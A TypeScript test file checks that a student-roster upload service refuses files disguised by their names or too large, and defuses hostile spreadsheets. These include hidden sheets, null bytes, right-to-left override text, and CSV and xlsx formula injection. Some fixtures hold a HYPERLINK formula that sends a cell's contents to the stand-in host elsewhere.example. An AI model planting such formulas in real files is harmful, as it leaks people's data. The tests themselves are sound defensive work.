import assert from 'node:assert/strict';
import { test } from 'vitest';
import { keptLimits, sheetLimits, WRONG_SHEET } from '@aarambh/contracts/students/sheets.ts';
import { SHEET_LIMITS, sheetProcesses } from '@aarambh/infra/sheets/sheet-processes.ts';
import { words } from '@aarambh/students/rows/words.ts';
import { emptyRowsXlsx, hiddenXlsx, listCsv, listXlsx, lockedFile, refusedFiles } from '../../sheets/hostile-files.ts';
import { bookOf } from '../../sheets/made-by-excel.ts';
import { inline } from '../../sheets/made.ts';
import { csvOf, namedCsv, uploadWorld } from '../../students/upload-world.ts';

/** A college whose files are read as a node reads them, in processes of their own. */
const processWorld = () => uploadWorld({ sheets: sheetProcesses({ ...SHEET_LIMITS, report: (error) => assert.fail(String(error)) }) });

type World = Awaited<ReturnType<typeof uploadWorld>>;
type File = Buffer | string;
const sent = (file: File): string | Uint8Array<ArrayBuffer> => (typeof file === 'string' ? file : new Uint8Array(file));

/** Nobody stands on a list, and the server answers as before. */
async function nothingHappened({ harness, list, owner }: World, what: string): Promise<void> {
  const written = harness.store.all().filter(({ stream, type }) => stream.startsWith('enrolment-') || type === 'RosterListed');
  assert.deepEqual(written, [], what);
  assert.deepEqual(await list(), [], what);
  assert.equal((await owner.call('GET', '/api/org/students-template.csv')).status, 200, what);
}

const xls = bookOf('biff8', [{ name: 'A', rows: [['Name'], ['Asha']] }]);

/** Files that are not what their names say, or too large: they are refused before anything of them is kept. */
const refusedAtOnce: readonly { readonly name: string; readonly file: File; readonly status: 413 | 415 }[] = [
  { name: 'students.exe', file: 'MZ', status: 415 },
  { name: 'students', file: namedCsv('Asha'), status: 415 },
  { name: 'a-program.csv', file: 'MZ\u0090', status: 415 },
  { name: 'a-document.csv', file: '%PDF-1.7', status: 415 },
  { name: 'an-xlsx.csv', file: listXlsx(), status: 415 },
  { name: 'a-csv.xlsx', file: namedCsv('Asha'), status: 415 },
  { name: 'an-xls.xlsx', file: xls, status: 415 },
  { name: 'an-xlsx.xls', file: listXlsx(), status: 415 },
  { name: 'a-locked-xlsx.xls', file: lockedFile(), status: 415 },
  { name: 'students.xlsx.html', file: '<html><table><tr><td>Name</td></tr></table>', status: 415 },
  { name: 'large.xls', file: Buffer.concat([xls, Buffer.alloc(sheetLimits.xlsBytes)]), status: 413 },
  { name: 'large.csv', file: 'x'.repeat(sheetLimits.bytes + 1), status: 413 },
];

test('[I2] a file that lies about what it is, or is too large, is refused at once over HTTP, and nothing is kept of it', async () => {
  const world = await processWorld();
  const { send, uploads, harness } = world;
  for (const { name, file, status } of refusedAtOnce) {
    // Nobody sends so many files in a minute.
    harness.advance(10_000);
    const { body, ...answer } = await send(sent(file), { name });
    assert.equal(answer.status, status, `${name}: ${JSON.stringify(body)}`);
    if (status === 415) assert.deepEqual([body.code, body.message], ['sheet_wrong', WRONG_SHEET], name);
    else assert.match(body.message, /at most|too large/i, name);
    await nothingHappened(world, name);
  }
  assert.deepEqual((await uploads()).body.data, []);
});

test('[I2] a file that cannot be taken is refused over HTTP with its own sentence, whatever it tries', { timeout: 180_000 }, async () => {
  const world = await processWorld();
  const { dryRun } = world;
  for (const { what, kind, code, bytes } of refusedFiles) {
    const { shown } = await dryRun(sent(bytes()), { name: `students.${kind}` });
    assert.equal(shown.status, 'refused', what);
    assert.ok(shown.reason!.endsWith(words.file[code]), `${what}: ${shown.reason}`);
    await nothingHappened(world, what);
  }
  const honest = await dryRun(namedCsv('Asha'));
  assert.deepEqual([honest.shown.status, honest.shown.counts.create], ['ready', 1], 'control: what is a list is read after all of them');
});

const formula = (stored: string): string => `<c r="G2" t="str"><f>HYPERLINK("http://elsewhere.example/?"&amp;C2,"Asha")</f>${stored}</c>`;
const heading = `<row r="1">${['Email ID', 'WhatsappNumber', 'Name'].map((text, n) => inline(`${'ABC'[n]}1`, text)).join('')}</row>`;
const hyperlink = (stored: string): Buffer =>
  hiddenXlsx(`${heading}<row r="2">${inline('A2', 'asha@student.in')}${formula(stored).replace('G2', 'C2')}</row>`);
const asha = {
  row: 2,
  name: 'Asha',
  email: 'asha@student.in',
  whatsappNumber: '',
  rollNo: '',
  bookingDate: '',
  time: '',
  will: 'create',
  unavailable: null,
};
const refusal = (field: string, reason: string) => ({ row: 2, field, reason });
const UNSEEN = words.refusal('name', 'unseen');

/** Files that are read, and what of them would be done: a student, or a row that is refused. */
const read: readonly { readonly what: string; readonly name: string; readonly file: () => File; readonly refused: readonly object[] }[] = [
  { what: 'a million empty rows', name: 'a.xlsx', file: () => emptyRowsXlsx(), refused: [] },
  {
    what: 'a hidden sheet in front, and a formula that links elsewhere',
    name: 'b.xlsx',
    file: () => hyperlink('<v>Asha</v>'),
    refused: [],
  },
  {
    what: 'a formula without a value',
    name: 'c.xlsx',
    file: () => hyperlink(''),
    refused: [refusal('Name', words.refusal('name', 'is_error'))],
  },
  {
    what: 'merged cells',
    name: 'd.xlsx',
    file: () => listXlsx(undefined, { behind: '<mergeCells><mergeCell ref="A2:C2"/></mergeCells>' }),
    refused: [refusal('Email ID', words.refusal('email', 'missing'))],
  },
  {
    what: 'a text that a spreadsheet would run',
    name: 'e.csv',
    file: () => listCsv('"=HYPERLINK(""http://elsewhere.example"",""Asha"")"', '', 'asha@student.in', '', '', ''),
    refused: [refusal('Name', words.refusal('name', 'wrong'))],
  },
  {
    what: 'null bytes',
    name: 'f.csv',
    file: () => listCsv('As\0ha', '', 'asha@student.in', '', '', ''),
    refused: [refusal('Name', UNSEEN)],
  },
  {
    what: 'text that turns around',
    name: 'g.csv',
    file: () => listCsv('Asha\u202Eahsa', '', 'asha@student.in', '', '', ''),
    refused: [refusal('Name', UNSEEN)],
  },
  {
    what: '50 kB in a cell',
    name: 'h.xlsx',
    file: () => listXlsx(['🎓'.repeat(12_500), '', 'asha@student.in', '', '', '']),
    refused: [refusal('Name', words.refusal('name', 'too_long'))],
  },
];

test(
  '[I2] what is hidden in a list is read harmlessly over HTTP: a student as the sheet shows them, or a row that says why not',
  { timeout: 180_000 },
  async () => {
    const world = await processWorld();
    const { dryRun, owner, at } = world;
    for (const { what, name, file, refused } of read) {
      const { uploadId, shown } = await dryRun(sent(file()), { name });
      assert.equal(shown.status, 'ready', `${what}: ${shown.reason}`);
      assert.deepEqual(shown.refused, refused, what);
      assert.deepEqual(shown.rows, refused.length === 0 ? [asha] : [], what);
      const csv = await owner.call<string>('GET', at(uploadId, '/refused.csv'));
      assert.equal(csv.status, 200, what);
      // No cell begins with what a spreadsheet runs, and none has what nobody sees.
      assert.doesNotMatch(csv.body, /(^|,|\n)"?[=+\-@]|[\0\u202E]/, what);
      await nothingHappened(world, what);
    }
  },
);

test(
  '[I2] [I3] rows that are counted only keep their students on a list that replaces, and are counted to its end',
  { timeout: 120_000 },
  async () => {
    const { dryRun, done, list, code, at, owner } = await processWorld();
    await done(
      (await dryRun(csvOf('Asha,,asha@student.in,A1,,', 'Binu,,binu@student.in,B1,,', 'Chitra,,chitra@student.in,C1,,'))).uploadId,
    );
    // Each refused row has 1,060 bytes of cells.
    const rows = Math.ceil(keptLimits.refused / 1_060) + 3;
    const wrong = Array.from({ length: rows }, (_, n) => `${'1'.repeat(70)},,${n}@student.in,${'r'.repeat(980)}${n},,`);
    const lines = [...wrong, '1,,ASHA@student.in,,,', '1,,,B1,,'];
    const { uploadId, shown } = await dryRun(csvOf(...lines), { mode: 'replace' });
    assert.deepEqual([shown.counts.refused, shown.counts.remove, shown.refused.length], [lines.length, 1, 500]);
    assert.ok(shown.refusedBeyond >= 2 && shown.refusedBeyond < rows / 2, `${shown.refusedBeyond} are only counted`);
    const file = await owner.call<string>('GET', at(uploadId, '/refused.csv'));
    assert.equal(file.body.trimEnd().split('\r\n').length - 1, lines.length - shown.refusedBeyond, 'the file has all that are kept');
    const ended = await done(uploadId, await code());
    assert.deepEqual([ended.status, ended.counts.refused, ended.counts.remove], ['confirmed', lines.length, 1]);
    assert.deepEqual(
      (await list()).map(({ name }) => name),
      ['Asha', 'Binu'],
    );
  },
);
